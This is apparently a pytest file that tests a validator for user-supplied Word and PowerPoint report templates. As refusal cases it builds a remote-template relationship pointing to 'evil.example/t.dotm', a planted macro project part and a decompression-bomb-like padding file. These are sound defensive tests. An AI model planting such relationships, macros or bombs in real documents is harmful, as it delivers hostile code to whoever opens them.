"""Own Word and PowerPoint templates: what is refused, what is missing by name, and documents set in them."""

import io
import zipfile
from collections.abc import Callable
from dataclasses import replace

import pytest
from docx import Document
from docx.shared import Mm, RGBColor
from pptx import Presentation

from reports import slides, word
from reports.content.report import Report
from reports.own_templates.check_template import TemplateFault, TemplateRefusedError, check_template
from reports.own_templates.starters import slides_starter, word_starter
from tests.reports.editions_made import made

BLUE = RGBColor(0x2F, 0x6D, 0xB0)


def _word(change: Callable[..., object] | None = None) -> bytes:
    document = Document(io.BytesIO(word_starter("fr")))
    if change:
        change(document)
    written = io.BytesIO()
    document.save(written)
    return written.getvalue()


def _own_word() -> bytes:
    """A template of a French Word: style ids of its own, blue titles, a header, and text that goes."""

    def change(document: object) -> None:
        style = document.styles["Heading 1"]  # type: ignore[attr-defined]
        style.font.color.rgb = BLUE
        style.element.set(f"{{{style.element.nsmap['w']}}}styleId", "Titre1")
        document.sections[0].header.paragraphs[0].text = "Cabinet Lefèvre"  # type: ignore[attr-defined]

    return _word(change)


def _with(content: bytes, name: str, added: bytes) -> bytes:
    written = io.BytesIO(content)
    with zipfile.ZipFile(written, "a", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr(name, added)
    return written.getvalue()


def _report(*, word_template: bytes = b"", slides_template: bytes = b"") -> Report:
    report = made("figures and a plan", "fr")
    theme = replace(report.theme, word_template=word_template, slides_template=slides_template)
    return replace(report, theme=theme)


def _fault(content: bytes, form: str) -> TemplateRefusedError:
    with pytest.raises(TemplateRefusedError) as refusal:
        check_template(content, form)
    return refusal.value


def test_the_starters_can_serve_and_are_the_same_each_time() -> None:
    check_template(word_starter("fr"), "docx")
    check_template(slides_starter(), "pptx")
    assert word_starter("en") == word_starter("en")
    assert slides_starter() == slides_starter()


def test_missing_styles_and_layouts_are_told_by_name() -> None:
    def drop(document: object) -> None:
        for name in ("Statement", "Cell Small"):
            document.styles[name].delete()  # type: ignore[attr-defined]

    assert _fault(_word(drop), "docx").missing == ("Statement", "Cell Small")
    file = Presentation(io.BytesIO(slides_starter()))
    file.slide_layouts.remove(file.slide_layouts[5])
    written = io.BytesIO()
    file.save(written)
    assert _fault(written.getvalue(), "pptx").missing == ("Title Only",)


def _narrow(document: object) -> None:
    document.sections[0].left_margin = Mm(60)  # type: ignore[attr-defined]


OFFICE = "http://schemas.openxmlformats.org"
OUTSIDE = (
    f'<Relationships xmlns="{OFFICE}/package/2006/relationships"><Relationship Id="rId1" '
    f'Type="{OFFICE}/officeDocument/2006/relationships/attachedTemplate" '
    'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
).encode()


@pytest.mark.parametrize(
    ("content", "fault"),
    [
        (lambda: b"not a file", TemplateFault.UNREADABLE),
        (slides_starter, TemplateFault.UNREADABLE),
        (lambda: _with(word_starter("fr"), "word/vbaProject.bin", b"x"), TemplateFault.MACROS),
        (lambda: _with(word_starter("fr"), "word/_rels/settings.xml.rels", OUTSIDE), TemplateFault.EXTERNAL),
        (lambda: _with(word_starter("fr"), "word/media/zeros.bin", b"0" * 64_000_000), TemplateFault.PACKED),
        (lambda: b"x" * (5 * 1024 * 1024 + 1), TemplateFault.HEAVY),
        (lambda: _word(_narrow), TemplateFault.NARROW),
    ],
)
def test_what_cannot_serve_is_refused(content: Callable[[], bytes], fault: TemplateFault) -> None:
    assert _fault(content(), "docx").fault is fault


def test_a_word_report_is_set_in_the_styles_and_the_header_of_the_template() -> None:
    report = _report(word_template=_own_word())
    content = word.render(report)
    document = Document(io.BytesIO(content))
    headings = [paragraph for paragraph in document.element.body.iter() if paragraph.tag.endswith("}pStyle")]
    assert "Heading1" in {heading.get(heading.attrib.keys()[0]) for heading in headings}
    assert document.styles["Heading 1"].style_id == "Heading1"
    assert document.styles["Heading 1"].font.color.rgb == BLUE
    assert document.sections[0].header.paragraphs[0].text == "Cabinet Lefèvre"
    assert "Statement" not in [paragraph.text for paragraph in document.paragraphs], "the starter's own lines are gone"
    assert content == word.render(report)


def test_a_presentation_is_set_in_the_layouts_of_the_template() -> None:
    file = Presentation(io.BytesIO(slides_starter()))
    file.slide_layouts[5].name = "Titre seul"
    file.slides.add_slide(file.slide_layouts[5]).shapes.title.text = "Exemple"
    written = io.BytesIO()
    file.save(written)
    report = _report(slides_template=written.getvalue())
    content = slides.render(report)
    shown = Presentation(io.BytesIO(content))
    assert len(shown.slides) == len(Presentation(io.BytesIO(slides.render(made("figures and a plan", "fr")))).slides)
    assert [slide.slide_layout.name for slide in shown.slides] == ["Title Slide"] + ["Titre seul"] * (
        len(shown.slides) - 1
    )
    assert "Exemple" not in [slide.shapes.title.text for slide in shown.slides]
    assert not [name for name in zipfile.ZipFile(io.BytesIO(content)).namelist() if name.endswith("slide0.xml")]
    assert content == slides.render(report)
